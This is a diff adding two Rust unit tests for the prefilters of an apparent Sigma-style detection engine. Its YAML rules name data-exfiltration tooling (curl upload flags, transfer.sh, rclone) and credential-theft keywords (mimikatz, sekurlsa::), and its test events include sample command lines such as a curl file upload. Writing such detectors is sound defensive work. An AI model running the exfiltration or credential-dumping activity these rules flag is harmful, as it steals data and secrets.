@@ -507,3 +507,103 @@ correlation:
     assert_eq!(corr[0].rule_id, "corr-ok");
     assert_eq!(corr[0].rule_name, "Two curl uploads");
 }
+
+/// A long `contains` list is one automaton; its values, ASCII or not, still match
+/// case-insensitively, and characters with no case (emoji, dashes) are prefilter
+/// literals, so the rule is skipped on events without them. The prefilter and
+/// the exhaustive evaluation agree on every event.
+#[test]
+fn contains_lists_and_caseless_literals_keep_their_answers() {
+    let yaml = r#"
+title: Emoji and dashes in a command line
+id: 33333333-0000-0000-0000-000000000001
+logsource: {product: windows, category: process_creation}
+detection:
+  emoji:
+    CommandLine|contains: ['🦆', '😀', '—', '🔸', 'ÄRGER']
+  tools:
+    Image|endswith: '\curl.exe'
+    CommandLine|contains: ['--upload-file', ' -T ', '-F file=@', 'transfer.sh', 'ﾠ']
+  condition: emoji or tools
+"#;
+    let mut b = builder();
+    assert!(b.add_yaml(yaml, "r.yml").iter().all(|r| r.is_ok()));
+    let set = b.build();
+    let matcher = set.matcher();
+    assert_eq!(matcher.stats().prefiltered, 1, "{:?}", matcher.stats());
+    let cases = [
+        ("C:\\x.exe", "run 🦆 now", true),
+        ("C:\\x.exe", "a — b", true),
+        ("C:\\x.exe", "ärger im büro", true),
+        ("C:\\x.exe", "ÄRGER", true),
+        ("C:\\x.exe", "plain text - with ascii dash", false),
+        (
+            "C:\\Tools\\CURL.EXE",
+            "curl --UPLOAD-FILE a.zip https://x",
+            true,
+        ),
+        ("C:\\Tools\\curl.exe", "curl https://TRANSFER.SH/a", true),
+        ("C:\\Tools\\wget.exe", "wget https://transfer.sh/a", false),
+    ];
+    let mut scratch = matcher.scratch();
+    for (image, command, expected) in cases {
+        let event = sysmon(
+            1,
+            "process_creation",
+            &[("Image", image), ("CommandLine", command)],
+        );
+        let (mut fast, mut slow) = (Vec::new(), Vec::new());
+        matcher.match_event(&event, &mut scratch, &mut fast);
+        matcher.match_event_exhaustive(&event, &mut slow);
+        assert_eq!(fast, slow, "{command}");
+        assert_eq!(!fast.is_empty(), expected, "{command}");
+    }
+}
+
+/// Routes with different rules get their own prefilters; a keyword rule of one
+/// service is not looked for in another's events, and both still fire.
+#[test]
+fn prefilters_are_built_per_route() {
+    let yaml = r#"
+title: Keywords in the system log
+id: 44444444-0000-0000-0000-000000000001
+logsource: {product: windows, service: system}
+detection:
+  keywords: ['mimikatz', 'sekurlsa::']
+  condition: keywords
+---
+title: Rclone in a command line
+id: 44444444-0000-0000-0000-000000000002
+logsource: {product: windows, category: process_creation}
+detection:
+  sel:
+    CommandLine|contains: 'rclone'
+  condition: sel
+"#;
+    let mut b = builder();
+    assert!(b.add_yaml(yaml, "r.yml").iter().all(|r| r.is_ok()));
+    let set = b.build();
+    let matcher = set.matcher();
+    let mut scratch = matcher.scratch();
+    let process = sysmon(
+        1,
+        "process_creation",
+        &[("CommandLine", "RCLONE copy x mimikatz")],
+    );
+    let mut system = Event {
+        code: Some(7045),
+        logsource: LogSource::new(Some("windows"), None, Some("system")),
+        ..Default::default()
+    };
+    system.native.push("ServiceName", Value::from("x"));
+    system
+        .native
+        .push("ImagePath", Value::from("C:\\MIMIKATZ.exe"));
+    let mut hits = Vec::new();
+    matcher.match_event(&process, &mut scratch, &mut hits);
+    assert_eq!(hits, vec![1]);
+    hits.clear();
+    matcher.match_event(&system, &mut scratch, &mut hits);
+    assert_eq!(hits, vec![0]);
+    assert_eq!(matcher.stats().prefilters, 2);
+}
